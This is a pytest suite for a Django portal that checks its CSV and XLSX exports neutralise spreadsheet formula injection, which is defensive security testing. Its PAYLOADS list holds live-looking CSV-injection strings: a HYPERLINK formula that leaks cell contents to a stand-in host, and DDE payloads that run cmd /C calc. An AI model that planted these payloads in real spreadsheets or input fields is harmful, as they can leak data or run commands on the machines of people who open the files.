"""Every spreadsheet the portal writes is safe to open (security review, finding 5): a text that
begins with = + - @ a tab or a carriage return reaches the cell with a leading apostrophe, so
that Excel and LibreOffice show it as text instead of running it as a formula, and no XLSX cell
is a formula. Numbers stay numbers. All CSV downloads follow one convention: UTF-8 with a byte
order mark, CRLF (gladbeck/spreadsheets.py)."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from gladbeck.models import Organisation
from gladbeck.publishing import Publication
from gladbeck.spreadsheets import neutralise
from measures.models import Challenge, Measure, ProgressEntry
from monitoring.models import Indicator, Observation, ProgrammeReport
from offers.models import Category, Offer
from tests.builders import make_challenge, make_measure, make_offer, make_organisation
from tests.responses import body

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://example.invalid/?d="&A1,"Klick")'
PAYLOADS = [
    HYPERLINK,
    '+1+cmd|" /C calc"!A0',
    '-1+cmd|" /C calc"!A0',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
INERT = ["'" + payload for payload in PAYLOADS]
BOM = b"\xef\xbb\xbf"


def read_csv(response, delimiter=","):
    """The rows of a CSV download, after checking the portal's one convention."""
    assert response.status_code == 200
    content = body(response)
    assert content.startswith(BOM), content[:20]
    assert content.split(b"\n", 1)[0].endswith(b"\r") and content.endswith(b"\r\n")
    text = io.StringIO(content.decode("utf-8-sig"), newline="")
    return list(csv.reader(text, delimiter=delimiter))


def column(rows, heading):
    index = rows[0].index(heading)
    return [row[index] for row in rows[1:]]


def assert_inert(cells):
    """Every payload is in ``cells``, as text made inert, and nothing else starts a formula."""
    for inert in INERT:
        assert inert in cells, (inert, cells)
    for cell in cells:
        assert neutralise(cell) == cell, cell


def read_xlsx(content):
    book = openpyxl.load_workbook(io.BytesIO(content))
    formulas = [
        cell.coordinate
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    return book


def xlsx_column(sheet, heading):
    header = [cell.value for cell in sheet[1]]
    index = header.index(heading)
    # XML turns a carriage return in a text into a line feed; the apostrophe is what counts.
    return [
        value.replace("\n", "\r") if isinstance(value, str) else value
        for value in (row[index] for row in sheet.iter_rows(min_row=2, values_only=True))
    ]


# The rule itself


def test_texts_that_start_a_formula_get_an_apostrophe_and_stay_readable():
    for payload in PAYLOADS:
        assert neutralise(payload) == "'" + payload
    assert neutralise("Sprachcafé = Treffpunkt") == "Sprachcafé = Treffpunkt"
    assert neutralise("'=schon harmlos") == "'=schon harmlos"


def test_numbers_stay_numbers():
    assert neutralise(-3) == -3
    assert neutralise(Decimal("-0.50")) == Decimal("-0.50")
    assert neutralise("-3") == "-3"
    assert neutralise("-0.5") == "-0.5"
    assert neutralise("+1e-07") == "+1e-07"
    assert neutralise(datetime.date(2025, 1, 1)) == datetime.date(2025, 1, 1)
    assert neutralise(None) is None
    assert neutralise("-3 Personen") == "'-3 Personen"


# /daten/: the open data downloads


def six_measures(**fields):
    return [make_measure(title=payload, **fields) for payload in PAYLOADS]


def six_offers(**fields):
    return [
        make_offer(title=payload, publication=Publication.PUBLISHED, **fields)
        for payload in PAYLOADS
    ]


def six_challenges():
    for payload in PAYLOADS:
        make_challenge(wording=payload)


def six_organisations():
    for payload in PAYLOADS:
        make_organisation(name=payload)


def test_the_open_data_measures_csv_neutralises_titles(client):
    six_measures()
    assert_inert(column(read_csv(client.get("/daten/massnahmen.csv")), "titel"))


def test_the_open_data_challenges_csv_neutralises_the_wording(client):
    six_challenges()
    assert_inert(column(read_csv(client.get("/daten/herausforderungen.csv")), "wortlaut"))


def test_the_open_data_offers_csv_neutralises_titles(client):
    six_offers()
    assert_inert(column(read_csv(client.get("/daten/angebote.csv")), "titel"))


def test_the_open_data_organisations_csv_neutralises_names(client):
    for payload in PAYLOADS:
        make_offer(provider=make_organisation(name=payload), publication=Publication.PUBLISHED)
    assert_inert(column(read_csv(client.get("/daten/organisationen.csv")), "name"))


def six_observations():
    indicator = Indicator.objects.create(code="formel", title="Formeltest", unit="Personen")
    for year, payload in enumerate(PAYLOADS, start=2017):
        Observation.objects.create(
            indicator=indicator,
            reference_date=datetime.date(year, 12, 31),
            value=Decimal("-3.00"),
            note=payload,
        )
    return indicator


def test_the_open_data_observations_csv_neutralises_notes_and_keeps_values_numbers(client):
    six_observations()
    rows = read_csv(client.get("/daten/messwerte.csv"))
    assert_inert(column(rows, "anmerkung"))
    mine = [row for row in rows if row[0] == "formel"]
    assert [row[rows[0].index("wert")] for row in mine] == ["-3"] * len(PAYLOADS)


# The monitoring


def test_the_indicator_csv_neutralises_notes_and_keeps_values_numbers(client):
    six_observations()
    rows = read_csv(client.get("/monitoring/formel/?format=csv"))
    assert_inert(column(rows, "anmerkung"))
    assert column(rows, "wert") == ["-3"] * len(PAYLOADS)


def programme(title, provider_name):
    offer = make_offer(
        title=title,
        provider=make_organisation(name=provider_name),
        category=Category.objects.get(is_qualification=True),
    )
    return ProgrammeReport.objects.create(
        offer=offer,
        period_start=datetime.date(2025, 1, 1),
        period_end=datetime.date(2025, 12, 31),
        entrants=20,
        completers=16,
        dropouts=4,
        placements_work=6,
        placements_training=2,
        total_days=2400,
        assessed=10,
        language_pre=4,
        language_post=2,
        publication=Publication.PUBLISHED,
    )


def test_the_steering_groups_quality_csv_neutralises_programmes_and_organisations(client, steering):
    for payload in PAYLOADS:
        programme(payload, payload)
    client.force_login(steering)
    rows = read_csv(client.get("/monitoring/qualitaet/steuerung/?jahr=2025&format=csv"))
    assert_inert(column(rows, "Programm"))
    assert_inert(column(rows, "Organisation"))
    assert "-2.00" in column(rows, "Sprache")  # a loss is a negative number, not a text


def test_the_public_quality_csv_keeps_a_negative_figure_a_number(client):
    for n in range(2):
        programme(f"Programm {n}", f"Träger {n}")
    rows = read_csv(client.get("/monitoring/qualitaet/?format=csv"))
    assert column(rows, "Jahr") == ["2025"]
    assert column(rows, "Sprache") == ["-2.00"]


# The status report


def measures_with_progress():
    for measure in six_measures(publication=Publication.DRAFT):
        ProgressEntry.objects.create(measure=measure, date=datetime.date(2026, 5, 1), text="-")


def test_the_status_report_csv_neutralises_titles_and_progress_texts(client, steering):
    measures_with_progress()
    client.force_login(steering)
    # semicolons: the report is opened in German Excel (tests/test_report_downloads.py)
    rows = read_csv(client.get("/berichte/sachstand/?format=csv"), delimiter=";")
    assert_inert(column(rows, "Maßnahme"))
    assert "'-" in column(rows, "letzter Fortschritt")


def test_the_status_report_xlsx_has_no_formula_and_neutralised_titles(client, steering):
    measures_with_progress()
    client.force_login(steering)
    response = client.get("/berichte/sachstand/?format=xlsx")
    assert response.status_code == 200
    book = read_xlsx(response.content)
    sheet = book["Zusammenleben und Austausch"]
    assert_inert(xlsx_column(sheet, "Maßnahme"))
    assert "'-" in xlsx_column(sheet, "letzter Fortschritt")
    assert all(isinstance(value, int) for value in xlsx_column(sheet, "Fortschritt in %"))


# The staff exports in the admin


def admin_export(client, model, file_format):
    """The export of ``model`` with every column, as the admin's form sends it."""
    address = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_export")
    form = client.get(address).context["form"]
    data = {"format": {"csv": "0", "xlsx": "1"}[file_format], "resource": "0"}
    data |= {name: "on" for name in form.fields if name not in data}
    data.pop("export_items", None)
    response = client.post(address, data)
    assert response.status_code == 200, response.content[:500]
    return response


# Per model: how to make six records with the payloads, and the column that shows them.
ADMIN_EXPORTS = {
    Measure: (six_measures, "Titel"),
    Offer: (six_offers, "Titel"),
    Organisation: (six_organisations, "Name"),
    Challenge: (six_challenges, "Wortlaut"),
    Observation: (six_observations, "Anmerkung"),
}


@pytest.fixture(params=list(ADMIN_EXPORTS), ids=lambda model: model._meta.model_name)
def exported_model(request):
    return request.param


def test_the_admin_csv_export_neutralises_texts(client, editor, exported_model):
    make_six, heading = ADMIN_EXPORTS[exported_model]
    make_six()
    client.force_login(editor)
    rows = read_csv(admin_export(client, exported_model, "csv"))
    assert_inert(column(rows, heading))
    if exported_model is Observation:
        assert "-3" in column(rows, "Wert")


def test_the_admin_xlsx_export_has_no_formula_and_neutralised_texts(client, editor, exported_model):
    make_six, heading = ADMIN_EXPORTS[exported_model]
    make_six()
    client.force_login(editor)
    book = read_xlsx(admin_export(client, exported_model, "xlsx").content)
    assert_inert(xlsx_column(book.active, heading))
    if exported_model is Observation:
        assert Decimal("-3") in xlsx_column(book.active, "Wert")


def test_a_control_character_in_a_text_does_not_break_an_xlsx(client, editor):
    make_measure(title="Steuerzeichen\x01 im Titel")
    client.force_login(editor)
    report = client.get("/berichte/sachstand/?format=xlsx")
    sheet = read_xlsx(report.content)["Zusammenleben und Austausch"]
    assert "Steuerzeichen\N{REPLACEMENT CHARACTER} im Titel" in xlsx_column(sheet, "Maßnahme")
    sheet = read_xlsx(admin_export(client, Measure, "xlsx").content).active
    assert "Steuerzeichen\N{REPLACEMENT CHARACTER} im Titel" in xlsx_column(sheet, "Titel")
